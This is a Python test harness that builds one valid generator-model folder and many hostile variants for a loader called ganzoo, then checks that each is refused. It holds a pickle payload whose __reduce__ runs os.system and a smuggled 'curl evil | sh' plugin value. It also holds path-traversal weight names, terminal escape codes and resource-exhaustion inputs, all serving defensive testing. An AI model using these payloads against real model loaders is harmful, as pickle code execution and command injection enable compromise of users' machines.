"""Generator folders as a stranger might make them: a good one, and many that must be refused.

``HOSTILE`` maps a name to what turns the good folder into a bad one, and to what the refusal must say.
``python hostile.py FOLDER`` makes and loads them all, within limits, and prints what came of each.
"""

from __future__ import annotations

import json
import os
import pickle
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

Change = Callable[[Path], None]
HOSTILE: dict[str, tuple[Change, str]] = {}

SETTINGS = {"shape": [1, 8, 8], "latent": 4, "hidden": [8], "conditional": True, "classes": 3}
WEIGHTS = "sample.safetensors"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt.exe"
LARGE = "larger than its weights"


def good(folder: Path) -> Path:
    """A small conditional perceptron."""
    from safetensors.torch import save_file

    from ganzoo.plugins import plugins
    from ganzoo.recipe.build import build_network
    from ganzoo.recipe.schema import Component

    folder.mkdir(parents=True)
    network = build_network(Component.model_validate({"type": "mlp-generator", **SETTINGS}), plugins())
    save_file(network.state_dict(), folder / WEIGHTS)
    entry = {"network": "mlp-generator", "plugin": "ganzoo", "version": "0", "config": SETTINGS, "weights": WEIGHTS}
    config = {
        "format": 1,
        "model": "vanilla",
        "image": {"channels": 1, "size": 8, "class_names": ["a", "b", "c"]},
        "networks": {"sample": entry},
    }
    (folder / "config.json").write_text(json.dumps(config))
    return folder


def add(name: str, message: str) -> Callable[[Change], Change]:
    def keep(change: Change) -> Change:
        assert name not in HOSTILE
        HOSTILE[name] = change, message
        return change

    return keep


# config.json


def edit(folder: Path, **changes: Any) -> None:
    path = folder / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def edit_network(folder: Path, **changes: Any) -> None:
    config = json.loads((folder / "config.json").read_text())
    edit(folder, networks={"sample": config["networks"]["sample"] | changes})


def text(name: str, content: str, message: str) -> None:
    add(f"config: {name}", message)(lambda folder: (folder / "config.json").write_text(content))


def changed(name: str, message: str, **changes: Any) -> None:
    add(f"config: {name}", message)(lambda folder: edit(folder, **changes))


def network(name: str, message: str, **changes: Any) -> None:
    add(f"network: {name}", message)(lambda folder: edit_network(folder, **changes))


def settings(name: str, message: str, **changes: Any) -> None:
    network(name, message, config=SETTINGS | changes)


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = {"a": value}
    return value


text("no JSON", "{", "is not a generator's config")
text("no UTF-8", "\udcff".encode("utf-8", "surrogateescape").decode("latin-1") + "{", "is not a generator's config")
text("no table", "[]", "is not a generator's config")
text("nothing", "{}", "format: Field required")
text("nested deeply", "[" * 300_000, "nested too deeply")
text("nested", "[" * 40 + "]" * 40, "nested more than 32 deep")
text("a megabyte and more", " " * (2**20 + 1) + "{}", "larger than 1,048,576 bytes")
text("a number of 5000 digits", '{"format": ' + "1" * 5000 + "}", "is not a generator's config")
text("a number of 1000 digits", '{"format": ' + "1" * 1000 + "}", "out of all bounds")
text("no number", '{"format": NaN}', "NaN is no number")
text("infinite", '{"format": 1e999}', "inf is no number")
text("a key twice", '{"format": 1, "format": 1}', "a key is there twice")
changed("another format", "this ganzoo reads 1", format=2)
changed("a format in words", "format: Input should be a valid integer", format="1")
changed("a negative step", "step: ", step=-1)
changed("no networks", "networks: ", networks={})
changed("a model with escape codes", "model: ", model=ESCAPES)
changed("a trillion channels", "image.channels: ", image={"channels": 10**12})
changed("huge pictures", "image.size: ", image={"channels": 1, "size": 10**6})
changed("class names that are none", "image.class_names", image={"channels": 1, "class_names": [1, {}]})
changed("an inference that is none", "inference: ", inference="__import__('os')")


@add("config: a direction that is a path", "networks")
def _(folder: Path) -> None:
    entry = json.loads((folder / "config.json").read_text())["networks"]["sample"]
    edit(folder, networks={"../../AtoB": entry})


@add("config: a perceptron that translates", "does not translate pictures")
def _(folder: Path) -> None:
    entry = json.loads((folder / "config.json").read_text())["networks"]["sample"]
    edit(folder, networks={"AtoB": entry})


network("unregistered", "no network is called 'nowhere'", network="nowhere", plugin="ganzoo-nowhere")
network("a class by its path", "networks.sample.network", network="os:system")
network("a dotted path", "no network is called 'os.system'", network="os.system")
network("escape codes", "networks.sample.network", network=ESCAPES)
network("a plugin that is a command", "networks.sample.plugin", plugin="x; curl evil | sh")
network("a plugin that is an option", "networks.sample.plugin", plugin="--index-url=evil")
network("a network that judges", "larger than its weights|does not make|weights lack", network="mlp-discriminator",
        config={"shape": [1, 8, 8]})  # fmt: skip
network("settings nested", "nested more than 8 deep", config=nested(20))
network("settings that are none", "config: Input should be", config=[1])
settings("another type", "'type' is no setting", type="unet")
settings("an unknown setting", "Extra inputs are not permitted", target="os:system")
settings("a private setting", "Extra inputs are not permitted", __class__="x", model_config={})
settings("a billion latents", "out of all bounds", latent=10**9)
settings("a million latents", "latent: ", latent=10**6)
settings("many latents", LARGE, latent=60_000)
settings("a negative latent", "latent: ", latent=-4)
settings("a hundred thousand layers", "a list of 100,000 is out of all bounds", hidden=[8] * 100_000)
settings("a thousand layers", "hidden: ", hidden=[8] * 1000)
settings("a hundred wide layers", LARGE, hidden=[60_000] * 100)
settings("a hundred layers", LARGE, hidden=[8] * 100)
settings("a vast picture", LARGE, shape=[3, 60_000, 60_000])
settings("no picture at all", "does not make pictures|is F32", shape=[])
settings("a vast number", "hidden", hidden=[1e300])
settings("half a layer", "hidden", hidden=[1.5])
network("downs without end", "out of all bounds", network="unet", config={"downs": 10**8})
network("too many downs", "downs: ", network="unet", config={"downs": 10**5})
network("vast strides", LARGE, network="unet", config={"downs": 12, "channels": 1, "out_channels": 1})
network("a vast size", "size: ", network="conv-generator", config={"size": 2**20, "channels": 1})
network("many doublings", LARGE, network="conv-generator", config={"size": 2**13, "channels": 1, "filters": 1})
network("no size", "pictures of 0 pixels", network="conv-generator", config={"channels": 1})
for _name in ("../x.safetensors", "/etc/x.safetensors", "a/x.safetensors", "..\\x.safetensors", "x\0.safetensors"):
    network(f"weights {_name!r}", "is no name of a file in the folder", weights=_name)
for _name in ("pytorch_model.bin", "model.pt", "model.pkl", "model.ckpt", ""):
    network(f"weights {_name!r}", "is no safetensors file", weights=_name)
network("weights that are not there", "there is no such file", weights="other.safetensors")
network("weights of a long name", "networks.sample.weights", weights="x" * 300 + ".safetensors")


# links


def relink(folder: Path, name: str, target: Path) -> None:
    (folder / name).unlink()
    (folder / name).symlink_to(target)


@add("link: config.json out of the folder", "leads out of the folder")
def _(folder: Path) -> None:
    (folder / "config.json").rename(folder.parent / "outside.json")
    (folder / "config.json").symlink_to(folder.parent / "outside.json")


@add("link: weights out of the folder", "leads out of the folder")
def _(folder: Path) -> None:
    (folder / WEIGHTS).rename(folder.parent / "outside.safetensors")
    (folder / WEIGHTS).symlink_to(Path("..") / "outside.safetensors")


@add("link: to blobs, but not in the cache", "leads out of the folder")
def _(folder: Path) -> None:
    (folder.parent / "blobs").mkdir()
    (folder / WEIGHTS).rename(folder.parent / "blobs" / "x")
    (folder / WEIGHTS).symlink_to(folder.parent / "blobs" / "x")


@add("link: in a circle", "there is no such file|loop|levels of symbolic links")
def _(folder: Path) -> None:
    relink(folder, WEIGHTS, folder / WEIGHTS)


@add("link: to a device", "leads out of the folder")
def _(folder: Path) -> None:
    relink(folder, WEIGHTS, Path("/dev/zero"))


@add("weights: a pipe that nobody writes to", "there is no such file")
def _(folder: Path) -> None:
    (folder / WEIGHTS).unlink()
    os.mkfifo(folder / WEIGHTS)


@add("weights: a folder", "there is no such file")
def _(folder: Path) -> None:
    (folder / WEIGHTS).unlink()
    (folder / WEIGHTS).mkdir()


# weights


class Payload:
    """Pickled, it is a command that leaves a file behind."""

    def __init__(self, folder: Path) -> None:
        self.mark = folder.parent / "executed"

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.mark}",)


@add("weights: a pickle", "is no safetensors file")
def _(folder: Path) -> None:
    (folder / WEIGHTS).write_bytes(pickle.dumps(Payload(folder)))


@add("weights: torch's pickle", "is no safetensors file")
def _(folder: Path) -> None:
    import torch

    torch.save({"model.0.weight": Payload(folder)}, folder / WEIGHTS)


def parts(folder: Path) -> tuple[dict[str, Any], bytes]:
    """The header and the numbers of the weights."""
    content = (folder / WEIGHTS).read_bytes()
    length = struct.unpack("<Q", content[:8])[0]
    return json.loads(content[8 : 8 + length]), content[8 + length :]


def write(folder: Path, header: Any, data: bytes, length: int | None = None) -> None:
    told = header if isinstance(header, bytes) else json.dumps(header).encode()
    told += b" " * (-len(told) % 8)
    (folder / WEIGHTS).write_bytes(struct.pack("<Q", len(told) if length is None else length) + told + data)


def raw(name: str, content: bytes, message: str = "is no safetensors file") -> None:
    add(f"weights: {name}", message)(lambda folder: (folder / WEIGHTS).write_bytes(content))


def header(name: str, message: str) -> Callable[[Callable[[dict[str, Any], bytes], Any]], None]:
    """Adds a folder whose header, and with a tuple its numbers, are what the function makes of the good ones."""

    def keep(make: Callable[[dict[str, Any], bytes], Any]) -> None:
        def change(folder: Path) -> None:
            told, data = parts(folder)
            made = make(told, data)
            write(folder, *(made if isinstance(made, tuple) else (made, data)))

        add(f"weights: {name}", message)(change)

    return keep


FIRST = "model.0.weight"  # (8, 7) in the good folder

raw("empty", b"")
raw("seven bytes", b"1234567")
raw("no header", struct.pack("<Q", 0))
raw("a header of 2**63 bytes", struct.pack("<Q", 2**63) + b"{}")
raw("a header longer than the file", struct.pack("<Q", 3) + b"{}")
raw("a header of 5 MB", struct.pack("<Q", 5 * 2**20) + b" " * 5 * 2**20)
raw("a header that is no JSON", struct.pack("<Q", 8) + b"12345678"[::-1] + b"x", "header is no table")
raw("a header that is no text", struct.pack("<Q", 8) + b"\xff" * 8, "sample")
raw("a header nested deeply", struct.pack("<Q", 200_000) + b"[" * 200_000, "nested too deeply")
header("a header that is a list", "header is no table")(lambda told, data: [told])
header("a tensor that is a number", "is not described by a table")(lambda told, data: told | {FIRST: 1})
header("a tensor twice", "a key is there twice")(
    lambda told, data: (json.dumps(told)[:-1] + "," + json.dumps(told)[1:]).encode()
)
header("bytes left over", "describes")(lambda told, data: (told, data + b"1234"))
header("bytes missing", "describes")(lambda told, data: (told, data[:-4]))
header("no bytes", "describes")(lambda told, data: (told, b""))
header("metadata that is none", "cannot be read|be loaded")(lambda told, data: told | {"__metadata__": 5})


def tensor(name: str, message: str, **changes: Any) -> None:
    header(name, message)(lambda told, data: told | {FIRST: told[FIRST] | changes})


TERABYTES = 10 * 2**40
tensor("10 TB", "leaves a gap|describes|overlaps", shape=[TERABYTES // 4], data_offsets=[0, TERABYTES])
tensor("10 TB in a small place", "another size than its shape", shape=[TERABYTES // 4])
tensor("a shape that overflows", "another size than its shape", shape=[2**62, 2**62, 2**62])
tensor("a shape of a thousand sides", "has no shape", shape=[1] * 1000)
tensor("a negative shape", "has no shape", shape=[-8, -7])
tensor("a shape of truth values", "has no shape", shape=[True])
tensor("a shape in words", "has no shape", shape="8x7")
tensor("no place", "has no shape, or no place", data_offsets=None)
tensor("a place that ends before it begins", "has another size", data_offsets=[224, 0])
tensor("a place of one number", "no place", data_offsets=[0])
tensor("a type that is none", "is of no known type", dtype="OBJECT")
tensor("a type that is a list", "is of no known type", dtype=["F32"])
tensor("a shape turned around", r"is F32 \[7, 8\], and the network's is F32 \[8, 7\]", shape=[7, 8])
tensor("whole numbers", "is I32", dtype="I32")
tensor("doubles", "is F64", dtype="F64", shape=[4, 7])
tensor("complex numbers", "is C64", dtype="C64", shape=[4, 7])
tensor("half precision", "is F16", dtype="F16", shape=[16, 7])
tensor("bfloat16", "is BF16", dtype="BF16", shape=[16, 7])


@header("overlapping tensors", "overlaps another")
def _(told: dict[str, Any], data: bytes) -> Any:
    first, second = sorted((name for name in told if name != "__metadata__"), key=lambda n: told[n]["data_offsets"])[:2]
    size = told[second]["data_offsets"][1] - told[second]["data_offsets"][0]
    return told | {second: told[second] | {"data_offsets": [4, 4 + size]}} if first else told


@header("a gap", "leaves a gap")
def _(told: dict[str, Any], data: bytes) -> Any:
    moved = {
        name: entry | {"data_offsets": [offset + 8 for offset in entry["data_offsets"]]}
        for name, entry in told.items()
        if name != "__metadata__"
    }
    return moved, b"\0" * 8 + data


@header("a tensor missing", "the weights lack 'model.0.weight'")
def _(told: dict[str, Any], data: bytes) -> Any:
    return {("other" if name == FIRST else name): entry for name, entry in told.items()}


@header("a tensor too many", "the weights have, and the network has not, 'extra'")
def _(told: dict[str, Any], data: bytes) -> Any:
    extra = {"dtype": "F32", "shape": [1], "data_offsets": [len(data), len(data) + 4]}
    return told | {"extra": extra}, data + b"\0" * 4


@header("escape codes in a tensor's name", "the weights have, and the network has not,")
def _(told: dict[str, Any], data: bytes) -> Any:
    return told | {ESCAPES: {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}}


@header("thirty thousand tensors", "the weights have, and the network has not,")
def _(told: dict[str, Any], data: bytes) -> Any:
    return told | {f"x{number}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for number in range(30_000)}


@header("16 MB that no network asked for", "the network has not, 'padding'")
def _(told: dict[str, Any], data: bytes) -> Any:
    return told | {"padding": {"dtype": "U8", "shape": [2**24], "data_offsets": [len(data), len(data) + 2**24]}}, (
        data + bytes(2**24)
    )


for _name, _value in {"NaN": "nan", "infinity": "inf"}.items():
    header(_name, "holds numbers that are not finite")(
        lambda told, data, value=_value: (told, data[:-4] + struct.pack("<f", float(value)))
    )


def main(folder: Path) -> None:
    """Make and load every folder; what was said, what was opened or run meanwhile, and the memory it took."""
    import resource

    import ganzoo
    from ganzoo.errors import GanzooError

    ganzoo.load(good(folder / "good" / "generator")).sample(2)
    made = {}
    for number, (name, (change, _)) in enumerate(HOSTILE.items()):
        made[name] = good(folder / str(number) / "generator")
        change(made[name])
        for lure in ("pytorch_model.bin", "model.pt", "weights.pkl"):
            (made[name] / lure).write_bytes(pickle.dumps(Payload(made[name])))
    before = {str(path): path.lstat().st_mtime_ns for path in folder.rglob("*")}
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    suspicious: list[str] = []
    watched = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "pickle.find_class", "socket.connect"}

    def watch(event: str, arguments: Any) -> None:
        if event in watched:
            suspicious.append(f"{event} {arguments!r}")
        if event == "open" and str(arguments[0]).endswith((".bin", ".pt", ".pkl")):
            suspicious.append(f"open {arguments[0]}")

    sys.addaudithook(watch)
    said = {}
    for name, generator in made.items():
        try:
            ganzoo.load(generator).sample(2)
            said[name] = "nothing: it was loaded"
        except GanzooError as error:
            said[name] = str(error)
        except Exception as error:
            said[name] = f"TRACEBACK {type(error).__name__}: {error}"
    after = {str(path): path.lstat().st_mtime_ns for path in folder.rglob("*")}
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak
    written = sorted(path for path in after if after[path] != before.get(path))
    told = {"said": said, "suspicious": suspicious, "written": written, "grown_kib": grown}
    sys.stdout.write(json.dumps(told))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
